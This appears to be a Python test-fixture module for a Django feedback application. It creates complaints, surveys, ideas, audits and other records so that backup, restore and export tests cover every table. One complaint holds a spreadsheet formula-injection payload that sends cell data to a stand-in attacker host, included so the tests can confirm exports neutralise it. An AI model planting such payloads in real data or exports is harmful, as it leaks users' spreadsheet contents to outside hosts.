"""Records of most kinds, made through the services, for the tests about every table.

The backup-and-restore test and the full-export test check every table; they need rows in as
many of them as a quick set-up gives (history, links, timelines, answers, snapshots), not the
whole demo (a minute to load).
"""

from datetime import date

from django.contrib.auth.models import User

from core.roles import Role
from feedback import services as feedback_services
from tests.core.factories import UserFactory
from tests.feedback.factories import (
    AuditFactory,
    ComplaintFactory,
    IdeaFactory,
    InsightFactory,
    InvitationFactory,
    RecognitionFactory,
    ResponseFactory,
    SurveyFactory,
    ThemeFactory,
)
from tests.journeys.factories import (
    FailurePointFactory,
    HandoffFactory,
    ObjectiveFactory,
)
from tests.metrics.factories import ObservationFactory
from tests.stakeholders.factories import CustomerFactory, PartnerFactory, SegmentFactory

# A complaint text that a spreadsheet would run: every export must defuse it.
FORMULA_TEXT = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'


def records_of_every_kind(*, complaints: int = 5) -> User:
    """Create journeys, complaints, ideas, surveys, insights, audits and indicators; return the
    quality manager who did most of it."""
    manager = UserFactory.create(role=Role.QUALITY_MANAGER, username="records-manager")
    frontline = UserFactory.create(role=Role.FRONTLINE, username="records-frontline")
    segment = SegmentFactory.create(name="Households")
    PartnerFactory.create(name="SwiftParcel")
    CustomerFactory.create_batch(3, segment=segment)
    handoff = HandoffFactory.create()
    FailurePointFactory.create(touchpoint=handoff.from_touchpoint)
    ObjectiveFactory.create(touchpoint=handoff.to_touchpoint)

    ComplaintFactory.create(logged_by=frontline, description=FORMULA_TEXT)
    for complaint in ComplaintFactory.create_batch(complaints, logged_by=frontline):
        feedback_services.complaint_acknowledge(complaint=complaint, by=manager)
    idea = IdeaFactory.create(submitted_by=frontline)
    feedback_services.idea_vote(idea=idea, voter=manager)
    RecognitionFactory.create(given_by=manager, recipient=frontline)

    survey = SurveyFactory.create(created_by=manager)
    ResponseFactory.create_batch(3, survey=survey, comment="- late again, @SwiftParcel")
    InvitationFactory.create(survey=survey)
    themes = ThemeFactory.create_batch(2, by=manager)
    InsightFactory.create(author=manager, themes=themes)
    AuditFactory.create(auditor=manager, visited_on=date(2026, 11, 2))
    ObservationFactory.create_batch(3)
    return manager
